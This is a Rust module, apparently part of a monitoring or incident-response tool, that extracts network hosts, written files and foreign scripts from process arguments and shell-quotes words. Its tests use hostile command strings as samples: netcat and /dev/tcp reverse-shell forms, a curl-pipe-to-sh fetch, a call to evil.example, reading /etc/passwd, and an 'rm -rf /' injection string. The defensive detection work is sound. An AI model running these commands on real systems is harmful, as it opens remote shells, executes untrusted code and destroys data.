//! What arguments tell: addresses, names of hosts, files that are to be written. Pure.

use std::net::IpAddr;

/// Options of which the next argument is a file that is written.
const OUTPUT: &[&str] = &["-O", "-o", "--output", "--output-document", "--outfile", "of"];
/// Programs whose arguments are files that are changed.
const CHANGING: &[&str] =
    &["chmod", "chown", "cp", "install", "mv", "rm", "shred", "tee", "touch", "truncate"];
/// Folders of the system: what is executed there belongs to no incident by itself.
const SYSTEM: &[&str] = &["/bin/", "/lib", "/nix/", "/opt/", "/sbin/", "/snap/", "/usr/"];

/// Where an argument points.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Target {
    /// An address, with the port if that is there.
    Address(IpAddr, Option<u16>),
    /// A host by its name.
    Name(String),
}

/// Addresses and names in an argument list: URLs anywhere, `user@host`, addresses, and a port that follows one.
pub fn targets(args: &[String]) -> Vec<Target> {
    let mut found = Vec::new();
    let mut rest = args.iter().skip(1).peekable();
    while let Some(argument) = rest.next() {
        let words = argument.split([' ', '\'', '"', ';', '|', '&', '(', ')', ',']);
        for word in words.filter(|word| !word.is_empty()) {
            let Some(mut target) = target(word) else { continue };
            if let Target::Address(_, port @ None) = &mut target
                && let Some(next) = rest.peek()
            {
                *port = next.parse().ok().filter(|&port| port > 0);
            }
            if !found.contains(&target) {
                found.push(target);
            }
        }
    }
    found
}

fn target(word: &str) -> Option<Target> {
    if let Some((scheme, rest)) = word.split_once("://") {
        let authority = rest.split(['/', '?', '#']).next()?;
        let host = authority.rsplit('@').next()?;
        let default = match scheme {
            "http" | "ws" => Some(80),
            "https" | "wss" => Some(443),
            "ftp" => Some(21),
            _ => None,
        };
        return located(host, default);
    }
    // /dev/tcp/HOST/PORT of bash.
    if let Some(rest) = word.split_once("/dev/tcp/").or(word.split_once("/dev/udp/")).map(|(_, rest)| rest) {
        let (host, port) = rest.split_once('/')?;
        return located(host, port.parse().ok());
    }
    if let Ok(address) = word.parse() {
        return Some(Target::Address(address, None));
    }
    let host = word.rsplit('@').next().filter(|_| !word.starts_with('-'))?;
    let (name, port) = host.rsplit_once(':').unwrap_or((host, ""));
    let port = port.parse().ok();
    match name.trim_matches(['[', ']']).parse() {
        Ok(address) => Some(Target::Address(address, port)),
        Err(_) if word.contains('@') || port.is_some() => named(name),
        Err(_) => None,
    }
}

fn located(host: &str, default: Option<u16>) -> Option<Target> {
    let (name, port) = match host.strip_prefix('[') {
        Some(rest) => rest.split_once(']').map(|(name, port)| (name, port.strip_prefix(':')))?,
        None => host.split_once(':').map_or((host, None), |(name, port)| (name, Some(port))),
    };
    let port = port.and_then(|port| port.parse().ok()).or(default);
    match name.parse() {
        Ok(address) => Some(Target::Address(address, port)),
        Err(_) => named(name),
    }
}

/// A name that DNS could have.
fn named(name: &str) -> Option<Target> {
    let letters = |part: &str| {
        !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_".contains(&byte))
    };
    let good = name.len() <= 253 && name.split('.').all(letters);
    // A file name with an extension, and a word, are none.
    let dotted = name.contains('.') && name.bytes().any(|byte| byte.is_ascii_alphabetic());
    (good && dotted).then(|| Target::Name(name.to_owned()))
}

/// Files that the arguments say are to be written: after options for output, after `>`, and those of programs that change
/// files. `cwd` makes relative paths whole; without it they are left out.
pub fn written(args: &[String], cwd: Option<&str>) -> Vec<String> {
    let mut files = Vec::new();
    let mut add = |path: &str| {
        let path = match (path.starts_with('/'), cwd) {
            (true, _) => path.to_owned(),
            (false, Some(cwd)) if !path.is_empty() && !path.contains("://") => {
                format!("{}/{}", cwd.trim_end_matches('/'), path.trim_start_matches("./"))
            }
            _ => return,
        };
        if !path.starts_with("/dev/") && !files.contains(&path) {
            files.push(path);
        }
    };
    let program = args.first().map(|first| first.rsplit('/').next().unwrap_or(first)).unwrap_or_default();
    let mut rest = args.iter().skip(1);
    while let Some(argument) = rest.next() {
        let argument = argument.as_str();
        if OUTPUT.contains(&argument) {
            // `ssh -o Option=value` and `curl -O URL` have the same letters.
            if let Some(next) = rest.next().filter(|next| !next.contains(['=', ':'])) {
                add(next);
            }
        } else if let Some((_, path)) = argument.split_once('=').filter(|(option, _)| OUTPUT.contains(option))
        {
            add(path);
        } else if argument.contains('>') && argument.contains(' ') {
            // The text of a shell's -c.
            for (at, _) in argument.match_indices('>') {
                let path = argument[at + 1..].trim_start_matches('>').trim_start();
                let path = path.split([' ', ';', '&', '|', ')', '\n']).next().unwrap_or_default();
                if path.starts_with('/') {
                    add(path.trim_matches(['\'', '"']));
                }
            }
        } else if CHANGING.contains(&program) && argument.starts_with('/') {
            add(argument);
        }
    }
    files
}

/// A path outside the system's folders.
pub fn is_foreign(path: &str) -> bool {
    path.starts_with('/') && !SYSTEM.iter().any(|folder| path.starts_with(folder))
}

/// The script that a shell or another interpreter was given, if it lies outside the system's folders.
pub fn script(args: &[String]) -> Option<&str> {
    let first = args.get(1)?;
    (is_foreign(first) && !args.first()?.ends_with("chmod")).then_some(first)
}

/// A word for a shell.
pub fn quoted(word: &str) -> String {
    let bare = |byte: u8| byte.is_ascii_alphanumeric() || b"-_./:@%+,".contains(&byte);
    if !word.is_empty() && word.bytes().all(bare) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn list(text: &str) -> Vec<String> {
        text.split('~').map(str::to_owned).collect()
    }

    #[test]
    fn addresses_and_names() {
        let shown = |text: &str| {
            let word = |target: Target| match target {
                Target::Address(ip, Some(port)) => format!("{ip}#{port}"),
                Target::Address(ip, None) => ip.to_string(),
                Target::Name(name) => name,
            };
            targets(&list(text)).into_iter().map(word).collect::<Vec<_>>().join(" ")
        };
        assert_eq!(shown("nc~10.0.0.1~4444"), "10.0.0.1#4444");
        assert_eq!(shown("curl~-s~http://10.0.0.1:8000/a~-o~/tmp/x"), "10.0.0.1#8000");
        assert_eq!(shown("curl~https://user@evil.example/x?y"), "evil.example");
        assert_eq!(shown("sh~-c~curl http://[::1]:99/x | sh"), "::1#99");
        assert_eq!(shown("bash~-c~exec 3<>/dev/tcp/192.0.2.1/443"), "192.0.2.1#443");
        assert_eq!(shown("ssh~root@h.example~-p~22"), "h.example");
        assert_eq!(shown("socat~-~tcp:10.0.0.1:99"), "");
        assert_eq!(shown("ls~a.txt~/etc/passwd~-la"), "");
        assert_eq!(shown("x~../../a@b:c"), "");
    }

    #[test]
    fn files_to_be_written() {
        let shown = |text: &str, cwd: Option<&str>| written(&list(text), cwd).join(" ");
        assert_eq!(shown("curl~-s~http://h/x~-o~/tmp/x", None), "/tmp/x");
        assert_eq!(shown("curl~--output=./x", Some("/tmp")), "/tmp/x");
        assert_eq!(shown("curl~-o~x", None), "");
        assert_eq!(shown("ssh~-o~StrictHostKeyChecking=no~h", Some("/")), "");
        assert_eq!(shown("chmod~755~/tmp/x", None), "/tmp/x");
        assert_eq!(shown("sh~-c~id > /tmp/out; ls >>/tmp/b 2>/dev/null", None), "/tmp/out /tmp/b");
        assert_eq!(shown("cat~/etc/passwd", None), "");
    }

    #[test]
    fn words_for_a_shell() {
        assert_eq!((quoted("a.b-c"), quoted("")), ("a.b-c".into(), "''".into()));
        assert_eq!(quoted("x'; rm -rf /"), r"'x'\''; rm -rf /'");
        assert!(is_foreign("/tmp/x") && !is_foreign("/usr/bin/x") && !is_foreign("x"));
    }
}
